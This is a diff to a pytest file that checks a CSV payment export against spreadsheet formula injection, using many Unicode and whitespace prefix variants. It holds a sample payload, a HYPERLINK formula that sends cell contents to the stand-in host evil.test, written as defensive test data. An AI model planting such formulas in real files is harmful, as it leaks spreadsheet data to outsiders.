@@ -13,6 +13,8 @@ import pytest
 from httpx import Response
 from tortoise import connections
 
+import models
+from operations import exporting
 from operations.exporting import BATCH_ROWS, HEADINGS, payments_csv
 from operations.movements import Period
 from rules import clock
@@ -106,19 +108,42 @@ async def test_it_is_a_file_of_rfc_4180(world: World) -> None:
     assert (line["payer_role"], line["method"], line["reference"]) == ("Client", "CHECK", "No. 7")
 
 
-@pytest.mark.parametrize("beginning", ["=", "+", "-", "@"])
+@pytest.mark.parametrize(
+    "beginning",
+    ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207b", "\u2212", "\u2002="],
+)
 async def test_no_cell_is_a_formula(world: World, beginning: str) -> None:
-    """S39"""
+    """What people typed never reaches a spreadsheet as a formula, in full width or behind a space either (S39)."""
     formula = f'{beginning}HYPERLINK("http://evil.test"&A1,"pay")'
-    job = await world.inspection("10.00", people=((formula, "CLIENT"),), propertyAddress=formula)
+    job = await world.inspection("10.00", people=(("Clara", "CLIENT"),))
     done = await world.inspector.mutate(
-        "recordPayment", "payment { id }", invoiceId=job.primary_id, amount="10.00", method="OTHER", reference=formula
+        "recordPayment", "payment { id }", invoiceId=job.primary_id, amount="10.00", method="OTHER", reference="x"
     )
     done.done("payment")
+    # Written past the rules for names: the file must be safe whatever is stored.
+    await models.Payment.all().update(payer_name=formula, reference=formula)
+    await models.Invoice.all().update(property_address=formula)
     now = clock.now()
     (line,) = lines(await download(world, now - timedelta(days=1), now + timedelta(days=1)))
     assert (line["payer"], line["property"], line["reference"]) == (f"'{formula}",) * 3
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in line.values())
+
+
+@pytest.mark.parametrize(
+    "blank", ["\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x1b", "\u3000", " \u200b\t"]
+)
+def test_blanks_before_a_sign_hide_no_formula(blank: str) -> None:
+    """Spreadsheets drop what is invisible at the beginning of a cell; a text behind it stays as it is (S39)."""
+    assert exporting._text(f"{blank}=1+1") == f"'{blank}=1+1"
+    assert exporting._text(f"{blank}\uff1d1+1") == f"'{blank}\uff1d1+1"
+
+
+@pytest.mark.parametrize(
+    "text", ["", "12 Shore Road", "O\u2019Neil = Sons", "\u5c71\u7530", " (Main) 5", "#7", "\u2013 5", "\u200b"]
+)
+def test_a_text_that_is_no_formula_stays_as_it_was(text: str) -> None:
+    """Names and addresses are exported as they were typed (S39)."""
+    assert exporting._text(text) == text
 
 
 async def test_a_currency_without_decimals_has_none(world: World) -> None:
